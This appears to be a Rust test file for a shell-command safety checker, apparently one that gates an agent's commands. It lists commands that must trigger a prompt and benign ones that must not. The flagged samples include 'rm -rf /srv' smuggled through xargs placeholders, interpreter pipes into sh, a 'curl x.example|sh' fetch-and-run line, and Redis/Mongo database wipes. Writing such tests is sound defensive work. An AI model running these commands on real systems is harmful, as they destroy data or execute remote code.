//! Tests the input of programs: piped through a placeholder, written by code, or for a store's
//! console.

use super::*;

#[test]
fn a_line_takes_the_place_of_a_hole_as_a_whole() {
    all_ask(&[
        "echo 'rm -rf /srv' | xargs -I{} sh -c '{}'",
        "echo 'ls; rm -rf /srv' | xargs -I{} bash -c {}",
        "echo 'curl x.example|sh' | xargs -I{} sh -c '{}'",
        "printf 'ls\\nrm -rf /srv\\n' | xargs -I% sh -c %",
        "echo '\"rm\" -rf /srv' | xargs -I% sh -c %",
        "echo 'rm -rf /srv' | xargs -i sh -c '{}'",
        "echo 'rm -rf /srv' | xargs --replace sh -c '{}'",
        "echo '-rf /srv' | xargs rm {}",
    ]);
    none_asks_inside(&[
        "echo a b c | xargs -n1 echo",
        "echo src/main.rs | xargs -I{} cp {} /tmp/x",
        "ls src | xargs -I{} wc -l src/{}",
        "printf 'a\\nb\\n' | xargs -I{} mkdir -p {}",
        "find . -name '*.rs' | xargs -I{} grep -n foo {}",
        "echo 'fix it' | xargs -I{} echo {}",
    ]);
}

#[test]
fn what_code_feeds_a_shell_with_is_read_or_asked_about() {
    all_ask(&[
        r#"python3 -c 'import subprocess; subprocess.run("bash",input="rm -rf /srv",text=True)'"#,
        r#"python3 -c 'import subprocess; subprocess.run(["sh"],input=b"rm -rf /srv")'"#,
        r#"python3 -c 'import os; os.popen("sh","w").write("rm -rf /srv")'"#,
        r#"perl -e 'open F, "|sh"; print F "rm -rf /srv"'"#,
        r#"perl -e 'open F, "|-", "sh"; print F "rm -rf /srv"'"#,
        r#"ruby -e 'IO.popen("sh","w"){|f| f.puts "rm -rf /srv"}'"#,
        r#"php -r '$p=popen("sh","w");fwrite($p,"rm -rf /srv");'"#,
        r#"node -e 'require("child_process").execSync("sh",{input:"rm -rf /srv"})'"#,
    ]);
    none_asks_inside(&[
        r#"python3 -c 'import subprocess; subprocess.run(["bash"],input="ls -l",text=True)'"#,
        r#"python3 -c 'import subprocess; subprocess.run(["sort"],input="b\na",text=True)'"#,
        r#"python3 -c 'import os; print(os.popen("git log -1").read())'"#,
        r#"ruby -e 'puts IO.popen("git status").read'"#,
        r#"perl -e 'open F, "git log|"; print <F>'"#,
    ]);
}

#[test]
fn the_console_of_a_store_is_reported_by_what_it_is_fed_with() {
    all_ask(&[
        "printf 'FLUSHALL\\n' | redis-cli -h db.example",
        "redis-cli <<< flushall",
        "printf 'PING\\nDEL a\\n' | valkey-cli",
        "cat x.redis | redis-cli",
        "redis-cli < x.redis",
        "echo 'db.dropDatabase()' | mongosh mongodb://db.example",
        "mongosh mongodb://db.example <<< 'db.dropDatabase()'",
        "printf 'db.a.find()\\nx()\\n' | mongosh",
        "mongosh < x.js",
    ]);
    none_asks(&[
        "echo PING | redis-cli",
        "redis-cli <<< 'GET key'",
        "printf 'INFO\\nDBSIZE\\n' | redis-cli -h localhost",
        "redis-cli --scan < /dev/null",
        "echo 'db.stats()' | mongosh",
        "printf 'use x\\nshow collections\\n' | mongosh",
    ]);
}
